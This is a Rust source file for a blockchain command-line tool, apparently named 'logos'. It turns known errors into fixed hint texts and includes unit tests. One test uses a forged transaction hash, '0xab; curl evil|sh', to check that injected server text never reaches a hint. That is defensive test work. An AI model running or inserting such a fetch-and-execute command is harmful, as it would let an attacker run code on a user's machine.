//! What to do next after an error: `logos` prints the error, then one `hint:` line when the
//! error is one people commonly hit (no node at the address, no such key, an unfunded account,
//! a call only the owner or governance may make…).
//!
//! Hints are fixed texts chosen from the error's types (the client's, the keystore's, the RPC
//! error code, the `module::Error` names of a receipt). A server can make us pick a wrong one
//! of them, never put its own text in one: the only value a hint repeats (a transaction hash)
//! is shown only when it is well formed.

use logos_api::rpc::codes;
use logos_client::{keystore::KeystoreError, ClientError};

type RpcError = jsonrpsee::core::ClientError;

/// The next step for `error`, if it is a known situation.
pub fn next_step(error: &anyhow::Error) -> Option<String> {
    error.chain().find_map(|cause| {
        if let Some(error) = cause.downcast_ref::<ClientError>() {
            return client(error);
        }
        if let Some(error) = cause.downcast_ref::<RpcError>() {
            return rpc(error);
        }
        if let Some(error) = cause.downcast_ref::<KeystoreError>() {
            return keystore(error);
        }
        None
    })
}

fn client(error: &ClientError) -> Option<String> {
    match error {
        ClientError::Rpc(error) => rpc(error),
        ClientError::CallFailed { error, .. } => refused(&error.module, &error.error),
        ClientError::NoTrustAnchor => Some(
            "set it once for every command: `logos init --genesis FILE` (a devnet's is \
             /tmp/logos-devnet/genesis.toml)"
                .into(),
        ),
        ClientError::WrongChain { .. } => Some(
            "the genesis file belongs to another network: use the genesis of the network at \
             --rpc, or point --rpc at a node of the genesis' network"
                .into(),
        ),
        ClientError::Timeout(hash) => {
            let hash = match is_hash(hash) {
                true => hash.as_str(),
                false => "HASH",
            };
            Some(format!(
                "it may still finalize: `logos tx status {hash}` tells; `logos query head` \
                 shows whether the network is finalizing"
            ))
        }
        _ => None,
    }
}

/// True for `0x` and 64 hex digits (a transaction hash as the node formats it).
fn is_hash(text: &str) -> bool {
    text.strip_prefix("0x")
        .is_some_and(|hex| hex.len() == 64 && hex.bytes().all(|b| b.is_ascii_hexdigit()))
}

/// True if `error` or one of its causes is a failure to connect at all.
fn unreachable(error: &(dyn std::error::Error + 'static)) -> bool {
    use std::io::ErrorKind::*;
    let mut cause = Some(error);
    while let Some(error) = cause {
        if let Some(io) = error.downcast_ref::<std::io::Error>() {
            return matches!(
                io.kind(),
                ConnectionRefused | ConnectionReset | AddrNotAvailable | TimedOut | NotFound
            );
        }
        cause = error.source();
    }
    false
}

fn rpc(error: &RpcError) -> Option<String> {
    const NOBODY: &str = "no node answered at that address: start a local network with `logos \
         devnet`, or give a node's address with --rpc URL (once for every command: `logos init \
         --rpc URL`)";
    match error {
        RpcError::Transport(inner) if unreachable(inner.as_ref()) => Some(NOBODY.into()),
        RpcError::RequestTimeout => Some(NOBODY.into()),
        RpcError::Transport(_) => Some(
            "the server at that address did not answer as a Logos node's RPC: check --rpc URL \
             (`logos init --rpc URL` sets it for every command)"
                .into(),
        ),
        RpcError::Call(object) => rpc_code(object.code()),
        _ => None,
    }
}

fn rpc_code(code: i32) -> Option<String> {
    let hint = match code {
        codes::INSUFFICIENT_BALANCE => {
            "the account cannot pay the fee and amount: fund it (`logos tx transfer --from \
             FUNDED --to ADDRESS --amount N`; the devnet's funded key is `dev`) and check it with \
             `logos query account ADDRESS`"
        }
        codes::FEE_TOO_LOW => "raise the fee (--fee); `logos query chain` shows the minimum",
        codes::STALE_NONCE | codes::NONCE_GAP | codes::ALREADY_KNOWN => {
            "let the account's pending transactions finalize (`logos tx status HASH`) and run \
             it again without --nonce"
        }
        codes::WRONG_CHAIN_ID => {
            "the transaction was built for another network: check `logos query chain` against \
             the --rpc you meant"
        }
        codes::POOL_FULL
        | codes::RATE_LIMITED
        | codes::RATE_LIMITED_IP
        | codes::RATE_LIMITED_CONNECTION
        | codes::UNAVAILABLE
        | codes::TIMED_OUT => "the node is busy: try again in a few seconds, or use another --rpc",
        _ => return None,
    };
    Some(hint.into())
}

fn keystore(error: &KeystoreError) -> Option<String> {
    match error {
        KeystoreError::Io { source, .. } if source.kind() == std::io::ErrorKind::NotFound => Some(
            "no such key: `logos keys list` shows the keystore's keys and `logos keys new NAME` \
             makes one; another keystore is --keystore DIR (a devnet's is \
             /tmp/logos-devnet/keys), once for every command: `logos init --keystore DIR \
             --from NAME`"
                .into(),
        ),
        KeystoreError::WrongPassphrase(_) | KeystoreError::Locked(_) => Some(
            "give the key's passphrase with LOGOS_PASSPHRASE=… or --passphrase-file FILE (a \
             devnet's keys have the empty passphrase)"
                .into(),
        ),
        _ => None,
    }
}

/// Hints for calls the chain refused, by `module::Error` name.
fn refused(module: &str, error: &str) -> Option<String> {
    let hint = match (module, error) {
        (_, "BadOrigin") => {
            "only governance may make this call: propose it (`logos gov propose call \
             '<JSON>' --from KEY`) and vote"
        }
        ("market", "NotTenant") | ("operations", "NotTenant") => {
            "only the lease's tenant may do this: sign with the key that created it (--from); \
             `logos lease status ID` shows the tenant"
        }
        ("market", "LeaseClosed") | ("market", "UnknownLease") => {
            "`logos lease list` shows the leases and whether they are open"
        }
        ("market", "NoCapacity") => {
            "no provider has room for this template in that region now: try another --region \
             or template (`logos catalog`), or later"
        }
        ("balances", "InsufficientBalance") | ("balances", "InsufficientReserved") => {
            "the account cannot pay: fund it (`logos tx transfer --from FUNDED --to ADDRESS \
             --amount N`) and check it with `logos query account ADDRESS`"
        }
        ("dvci", "NotOwner") => {
            "only the provider's owner may do this: sign with the key that registered it \
             (--from); `logos provider status ID` shows the owner"
        }
        ("market", "UnknownTemplate") | ("operations", "UnknownTemplate") => {
            "`logos catalog` lists the templates you can lease"
        }
        ("governance", "VotingClosed") | ("governance", "UnknownProposal") => {
            "`logos gov list` shows the proposals and which are open"
        }
        _ => return None,
    };
    Some(hint.into())
}

#[cfg(test)]
mod tests {
    use super::*;
    use anyhow::Context as _;
    use logos_types::CallError;

    fn call_failed(module: &str, error: &str) -> anyhow::Error {
        anyhow::Error::new(ClientError::CallFailed {
            height: 7,
            error: CallError {
                module: module.into(),
                error: error.into(),
                index: [0, 0],
                message: String::new(),
            },
        })
    }

    #[test]
    fn an_unreachable_node_says_how_to_start_or_point_at_one() {
        let refused = std::io::Error::from(std::io::ErrorKind::ConnectionRefused);
        let error = anyhow::Error::new(RpcError::Transport(refused.into())).context("RPC");
        assert!(next_step(&error).unwrap().contains("logos devnet"));
        let wrapped = anyhow::Error::new(ClientError::Rpc(RpcError::RequestTimeout));
        assert!(next_step(&wrapped).unwrap().contains("--rpc"));
        // A server that answers, but not as a node (a proxy's 403): not "start a devnet".
        let answered = anyhow::Error::new(RpcError::Transport(anyhow::anyhow!("403").into()));
        let hint = next_step(&answered).unwrap();
        assert!(hint.contains("did not answer as a Logos node") && !hint.contains("devnet"));
    }

    #[test]
    fn a_timed_out_transaction_repeats_its_hash_only_when_well_formed() {
        let good = format!("0x{}", "ab".repeat(32));
        let timeout = |hash: &str| anyhow::Error::new(ClientError::Timeout(hash.into()));
        assert!(next_step(&timeout(&good)).unwrap().contains(&good));
        for forged in ["0xab; curl evil|sh", "0x", &format!("0x{}", "g".repeat(64))] {
            let hint = next_step(&timeout(forged)).unwrap();
            assert!(
                hint.contains("logos tx status HASH") && !hint.contains(forged),
                "{hint}"
            );
        }
    }

    #[test]
    fn a_missing_key_a_refused_call_and_a_low_fee_name_the_command_that_helps() {
        let missing = KeystoreError::Io {
            path: "/x/nobody.key".into(),
            source: std::io::ErrorKind::NotFound.into(),
        };
        let error = Err::<(), _>(missing).context("loading").unwrap_err();
        assert!(next_step(&error).unwrap().contains("logos keys new"));
        assert!(next_step(&call_failed("market", "NotTenant"))
            .unwrap()
            .contains("tenant"));
        assert!(next_step(&call_failed("catalog", "BadOrigin"))
            .unwrap()
            .contains("gov propose"));
        let low = jsonrpsee::types::ErrorObjectOwned::owned(codes::FEE_TOO_LOW, "x", None::<()>);
        let error = anyhow::Error::new(RpcError::Call(low));
        assert!(next_step(&error).unwrap().contains("--fee"));
    }

    #[test]
    fn unknown_errors_and_server_text_give_no_hint() {
        // A server cannot pick a hint by what it writes: only types and codes count.
        let sneaky =
            jsonrpsee::types::ErrorObjectOwned::owned(-1, "Connection refused", None::<()>);
        assert_eq!(next_step(&anyhow::Error::new(RpcError::Call(sneaky))), None);
        assert_eq!(next_step(&anyhow::anyhow!("something else")), None);
        assert_eq!(next_step(&call_failed("staking", "NoSuchThing")), None);
    }
}
